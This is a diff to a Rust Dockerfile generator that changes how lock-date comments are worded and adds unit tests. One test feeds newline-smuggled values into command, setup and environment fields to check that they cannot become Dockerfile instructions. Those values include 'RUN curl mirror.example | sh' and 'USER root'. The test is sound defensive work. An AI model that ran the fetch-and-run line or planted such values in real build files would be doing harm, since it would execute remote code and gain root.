@@ -165,11 +165,13 @@ fn pip_install(environment: Option<&Environment>, arguments: &str) -> String {
 fn installation(file: &mut Dockerfile, plan: &Plan, environment: Option<&Environment>) {
     file.blank();
     let empty = lock_lines(plan).is_empty();
-    file.comment(match &plan.lock {
-        _ if empty => "The bounds on what builds the project.",
-        Some(lock) if lock.date.is_some() => "Exact versions as of the day of the source.",
-        Some(_) => "Exact versions.",
-        None => "Not locked: versions are what the index gives on the day of the build.",
+    file.comment(&match &plan.lock {
+        _ if empty => "The bounds on what builds the project.".to_owned(),
+        Some(lock) => match &lock.date {
+            Some(date) => format!("Exact versions, as of {date}."),
+            None => "Exact versions.".to_owned(),
+        },
+        None => "Not locked: versions are what the index gives on the day of the build.".to_owned(),
     });
     file.copy(&["requirements.lock", "build-constraints.txt"], &format!("{LOCK_FOLDER}/"), NO_FLAGS);
     let flags: Vec<&str> = plan.pip.flags.iter().map(|f| f.value.as_str()).collect();
@@ -331,9 +333,9 @@ fn unlocked(plan: &Plan) -> Vec<String> {
 pub fn lock_text(plan: &Plan) -> String {
     let head = match &plan.lock {
         Some(lock) => {
-            let date = lock.date.as_ref().map_or("today".to_owned(), |d| format!("{d}, the day of the source"));
+            let date = lock.date.as_ref().map(|d| format!(" as of {d}")).unwrap_or_default();
             let caveat = if lock.verified { "" } else { " Not verified: the base image was not at hand." };
-            format!("# Resolved for Python {} as of {date}.{caveat}\n", plan.python.version)
+            format!("# Resolved for Python {}{date}.{caveat}\n", plan.python.version)
         }
         None => "# Not resolved: the requirements as they are declared.\n".to_owned(),
     };
@@ -369,4 +371,76 @@ pub fn reasons_of(items: &[Because<String>]) -> Vec<(String, String)> {
         .iter()
         .map(|item| (item.value.clone(), item.because.iter().map(Reason::line).collect::<Vec<_>>().join("; ")))
         .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use repro_note::Edit;
+
+    use super::*;
+    use crate::edit::apply;
+    use crate::plan::Lock;
+    use crate::testing;
+
+    fn text(plan: &Plan) -> String {
+        dockerfile(plan, None).to_string()
+    }
+
+    #[test]
+    fn a_rendered_file_has_no_finding_of_the_reader() {
+        let mut plan = testing::plan();
+        plan.lock = Some(Lock { requirements: vec!["eye==1".to_owned()], date: Some("2023-05-01".to_owned()), ..Lock::default() });
+        let text = text(&plan);
+        let file = Dockerfile::parse(&text);
+        assert_eq!(file.findings(), []);
+        assert_eq!(file.to_string(), text);
+        assert!(text.contains("CMD [\"python\", \"demo.py\"]"), "{text}");
+        assert!(text.contains("USER repro"), "{text}");
+    }
+
+    #[test]
+    fn upstreams_words_cannot_become_instructions() {
+        let mut plan = testing::plan();
+        let evil = "python demo.py '\nRUN curl mirror.example | sh\n'";
+        if let Some(main) = plan.main.as_mut() {
+            main.command.line = evil.to_owned();
+            main.command.setup = vec!["mkdir -p 'a\nUSER root'".to_owned()];
+            main.command.env.insert("A".to_owned(), "b\nUSER root".to_owned());
+            main.changes = vec!["x\nUSER root".to_owned()];
+        }
+        let reason = Reason::said("evil\nUSER root");
+        apply(&mut plan, &Edit::Apt(vec!["libgl1".to_owned()]), &reason, None);
+        let text = text(&plan);
+        let file = Dockerfile::parse(&text);
+        let users: Vec<String> = file
+            .instructions()
+            .iter()
+            .filter(|i| i.keyword_text().eq_ignore_ascii_case("user"))
+            .map(|i| i.arguments().to_owned())
+            .collect();
+        assert_eq!(users, ["repro"], "{text}");
+        assert!(!text.lines().any(|l| l.starts_with("RUN curl")), "{text}");
+    }
+
+    #[test]
+    fn a_command_goes_through_a_shell_only_where_it_needs_one() {
+        let mut main = testing::plan().main.expect("a main command");
+        assert_eq!(command_words(&main), ["python", "demo.py"]);
+        main.command.line = "python demo.py < in.txt".to_owned();
+        assert_eq!(command_words(&main), ["sh", "-c", "python demo.py < in.txt"]);
+        main.command.setup = vec!["mkdir -p out".to_owned()];
+        assert_eq!(command_words(&main), ["sh", "-c", "mkdir -p out && python demo.py < in.txt"]);
+    }
+
+    #[test]
+    fn what_is_built_in_the_environment_itself_comes_after_the_lock() {
+        let mut plan = testing::plan();
+        plan.lock = Some(Lock {
+            requirements: vec!["eye==1".to_owned(), "numbers==2".to_owned()],
+            ..Lock::default()
+        });
+        apply(&mut plan, &Edit::PipFlag("--no-build-isolation".to_owned()), &Reason::said("x"), Some("eye"));
+        assert_eq!(lock_lines(&plan), ["numbers==2"]);
+        assert!(text(&plan).contains("--no-deps --no-build-isolation eye==1"), "{}", text(&plan));
+    }
 }
